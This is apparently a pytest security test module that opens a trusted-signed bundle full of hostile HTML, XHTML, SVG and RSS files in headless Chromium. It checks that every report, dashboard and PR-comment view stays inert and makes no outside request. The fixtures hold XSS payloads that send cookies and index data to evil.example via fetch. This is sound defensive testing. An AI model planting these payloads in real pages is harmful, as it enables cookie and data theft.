"""A trusted-signed bundle carrying active files of every kind and script in every text
field, opened in headless Chromium through every way fasttrack publishes it: the report
(linking straight into the bundle folder), the static dashboard opened from disk and served
by a plain static server (``python -m http.server``), ``dashboard serve``, and the PR
comment rendered as Markdown. Every page and every linked file is opened; no script runs
and no request leaves the machine.

One Chromium session serves the whole module.
"""

from __future__ import annotations

import functools
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from dashboard_testlib import served_dashboard
from security_testlib import HEAD, Keys, add_members, resign, variant
from synthetic import Spec, make_bundle, payload_text

from fasttrack.report import render_report
from fasttrack.report.links import INERT_TYPES
from fasttrack.report.site import build_site

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]

_HTML = (
    "<html><head><title>t</title></head><body>"
    "<script>window.__pwned=1;fetch('https://evil.example/'+document.cookie)</script>"
    "<img src=x onerror=\"window.__pwned=2\"><img src='https://evil.example/i.png'></body></html>"
)
_XHTML = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
    "<script>window.__pwned=1;fetch('/index.json').then(r=>r.text()).then(t=>fetch('https://evil.example/',"
    "{method:'POST',body:t}))</script></body></html>"
)
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><script>window.__pwned=2</script></svg>'
_RSS = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?>' + _XHTML.split("?>", 1)[1]

#: Active or unknown types, and inert names holding active content.
ACTIVE_FILES = {
    **{f"artifacts/evals/page{ext}": _HTML for ext in (".html", ".htm", ".shtml", ".shtm", ".mht", ".mhtml", "")},
    **{f"artifacts/evals/page{ext}": _XHTML for ext in (".xht", ".xhtm", ".xhtml", ".xml", ".xsl", ".xslt")},
    **{f"artifacts/evals/feed{ext}": _RSS for ext in (".rss", ".atom", ".rdf")},
    "artifacts/evals/image.svg": _SVG,
    "artifacts/evals/image.svgz": _SVG,
    "artifacts/evals/script.js": "window.__pwned=1",
    "artifacts/evals/doc.pdf": "%PDF-1.4\n" + _HTML,
    "artifacts/evals/odd.weird": _HTML,
    "artifacts/evals/trace.jsonl": _HTML,
    "logs/engine.log": _HTML,
    # inert types (by name) holding active content: browsers and static servers type them inert
    **{f"artifacts/evals/disguised{ext}": _HTML for ext in INERT_TYPES},
}


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not CHROMIUM.exists():
        pytest.skip("/usr/bin/chromium is not installed (apt-get install -y chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS, headless=True)
        try:
            yield b
        finally:
            b.close()


class Audit:
    """A page in a context that logs every request leaving the machine (and blocks it)."""

    def __init__(self, browser: Any) -> None:
        self.ctx = browser.new_context(accept_downloads=True)
        self.external: list[str] = []
        self.ctx.route("**/*", self._route)
        self.page = self.ctx.new_page()
        self.dialogs: list[str] = []
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))

    def _route(self, route: Any) -> None:
        url = route.request.url
        parts = urlsplit(url)
        if parts.scheme in ("file", "data", "about", "blob") or parts.hostname in ("127.0.0.1", "localhost"):
            route.continue_()
        else:
            self.external.append(url)
            route.abort()

    def open(self, url: str) -> str:
        """Navigate to ``url``: 'download' when it is offered as one, else whether script ran."""
        try:
            self.page.goto(url, wait_until="load", timeout=15_000)
        except Exception as exc:  # noqa: BLE001 - playwright reports a download as a failed navigation
            if "Download is starting" in str(exc):
                return "download"
            raise
        self.page.wait_for_timeout(60)
        ran = self.page.evaluate("() => typeof window.__pwned === 'undefined' ? '' : String(window.__pwned)")
        return f"ran:{ran}" if ran else "inert"

    def links(self) -> list[str]:
        return self.page.evaluate("() => Array.from(document.querySelectorAll('a[href]')).map(a => a.href)")

    def close(self) -> None:
        self.ctx.close()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, keys: Keys) -> Path:
    """A folder with one trusted-signed bundle: script in every text field, active files of every kind."""
    root = tmp_path_factory.mktemp("hostile-browser")
    src = root / "src"
    make_bundle(src, Spec(model="demo-llama", seed=11, head_sha=HEAD, payload=payload_text()), sign_keys=[keys.trusted])
    bundles = root / "bundles"
    bundles.mkdir()
    b = variant(src, bundles / "evil")
    add_members(b, ACTIVE_FILES)
    resign(b, keys.trusted)
    return bundles


def _served(directory: Path) -> tuple[http.server.ThreadingHTTPServer, str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(directory)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd, f"http://127.0.0.1:{httpd.server_address[1]}"


def _open_all(audit: Audit, urls: list[str]) -> dict[str, str]:
    return {u: audit.open(u) for u in urls}


def test_hostile_bundle_runs_nothing_anywhere(browser: Any, hostile: Path, keys: Keys, tmp_path: Path) -> None:
    bundle = hostile / "evil"
    audit = Audit(browser)
    outcomes: dict[str, str] = {}
    try:
        # 1. the report, linking straight into the bundle folder
        report = tmp_path / "out" / "report.html"
        data = render_report(bundle, report, keys=[keys.trusted_pub], comment_path=tmp_path / "out" / "comment.md")
        assert data.verification.verified  # trusted-signed and hostile
        assert audit.open(report.as_uri()) == "inert"
        links = [u for u in audit.links() if not u.startswith(report.as_uri())]
        linked = {u.rsplit("/", 1)[-1] for u in links}
        assert not any(n.startswith("page") or n.startswith("feed") or n.startswith("image") for n in linked), linked
        assert any("disguised" in u for u in links)  # inert types are linked as themselves
        outcomes.update(_open_all(audit, links))

        # 2. the static dashboard with the files copied, opened from disk and from a plain static server
        site = tmp_path / "site"
        build_site(hostile, site, keys=[keys.trusted_pub], artifacts="copy", jobs=1)
        copied = [p for p in (site / "bundles").rglob("*") if p.is_file()]
        assert len(copied) >= len(ACTIVE_FILES)
        for p in copied:
            assert p.suffix.lower() in INERT_TYPES, p  # everything else was published as .txt
        pages = [site / "index.html", *sorted((site / "reports").glob("*.html"))]
        httpd, base = _served(site)
        try:
            for page in pages:
                for url in (page.as_uri(), f"{base}/{page.relative_to(site).as_posix()}"):
                    assert audit.open(url) == "inert", url
                    outcomes.update(_open_all(audit, [u for u in audit.links() if "/bundles/" in u]))
            assert any(u.startswith(base) for u in outcomes) and any(u.startswith("file:") for u in outcomes)
        finally:
            httpd.shutdown()
            httpd.server_close()

        # 3. dashboard serve
        with served_dashboard(hostile, tmp_path / "served", keys=[str(keys.trusted_pub)]) as base:
            assert audit.open(base + "/") == "inert"
            reports = [u for u in audit.links() if "/reports/" in u]
            assert reports
            for r in sorted(set(reports)):
                assert audit.open(r) == "inert"
                files = [u for u in audit.links() if "/bundles/" in u]
                assert len(files) >= len(ACTIVE_FILES)  # served: every attested file is linked
                outcomes.update(_open_all(audit, files))

        # 4. the PR comment, rendered as Markdown (raw HTML allowed, as GitHub allows some)
        from markdown_it import MarkdownIt

        md = (tmp_path / "out" / "comment.md").read_text()
        html = MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
        assert "evil.example" not in html.replace("\u200b", "") or "://evil" not in html
        comment = tmp_path / "out" / "comment.html"
        comment.write_text(f"<html><body>{html}</body></html>")
        assert audit.open(comment.as_uri()) == "inert"
        assert all(u.startswith(comment.as_uri()) or u.startswith("file:") for u in audit.links()), audit.links()
    finally:
        external, dialogs = audit.external, audit.dialogs
        audit.close()
    ran = {u: o for u, o in outcomes.items() if o.startswith("ran")}
    assert not ran, ran
    assert len(outcomes) > 3 * len(ACTIVE_FILES)
    assert external == [], external
    assert dialogs == []


def test_the_allow_list_holds_in_chromium(browser: Any, tmp_path: Path) -> None:
    """Each allow-listed type holding a page is inert when opened from disk and from a plain
    static server; the types the old deny-list missed are not (so this test can fail)."""
    d = tmp_path / "files"
    d.mkdir()
    for ext in INERT_TYPES:
        (d / f"h{ext}").write_text(_HTML)
        (d / f"x{ext}").write_text(_XHTML)
    for ext in (".xht", ".rss"):
        (d / f"x{ext}").write_text(_XHTML)
    audit = Audit(browser)
    httpd, base = _served(d)
    try:
        for ext in INERT_TYPES:
            for name in (f"h{ext}", f"x{ext}"):
                for url in ((d / name).as_uri(), f"{base}/{name}"):
                    assert audit.open(url) in ("inert", "download"), url
        # controls: these run script whoever serves them
        assert audit.open((d / "x.xht").as_uri()).startswith("ran")
        assert audit.open(f"{base}/x.xht").startswith("ran")
        assert audit.open((d / "x.rss").as_uri()).startswith("ran")
    finally:
        httpd.shutdown()
        httpd.server_close()
        audit.close()


def test_dashboard_serve_answers_only_its_own_host_names(hostile: Path, keys: Keys, tmp_path: Path) -> None:
    import http.client

    with served_dashboard(hostile, tmp_path / "served", keys=[str(keys.trusted_pub)]) as base:
        port = int(base.rsplit(":", 1)[1])

        def get(host: str | None, path: str = "/index.html") -> tuple[int, dict[str, str], bytes]:
            c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            c.putrequest("GET", path, skip_host=True)
            if host is not None:
                c.putheader("Host", host)
            c.endheaders()
            r = c.getresponse()
            body = r.read()
            c.close()
            return r.status, {k.lower(): v for k, v in r.getheaders()}, body

        assert get(f"127.0.0.1:{port}")[0] == 200
        assert get(f"localhost:{port}")[0] == 200
        for host in ("evil.example", f"evil.example:{port}", "127.0.0.1", f"127.0.0.1.evil.example:{port}", "", None):
            status, _, body = get(host)
            assert status == 421 and b"bundle" not in body, (host, status)
            assert get(host, "/index.json")[0] == 421
        # a file whose type is not on the allow-list goes as text or as a download, never as a page
        import json as _json

        status, _, raw = get(f"127.0.0.1:{port}", "/index.json")
        rec = _json.loads(raw)["bundles"][0]
        short = rec["short"] if "short" in rec else rec["id"][:16]
        for member, want in (
            ("artifacts/evals/page.xht", "text/plain"),
            ("artifacts/evals/image.svg", "text/plain"),
            ("artifacts/evals/disguised.png", "image/png"),
        ):
            status, headers, _ = get(f"127.0.0.1:{port}", f"/bundles/{short}/{member}")
            assert status == 200 and headers["content-type"].startswith(want), (member, headers)
            assert headers["x-content-type-options"] == "nosniff" and "sandbox" in headers["content-security-policy"]
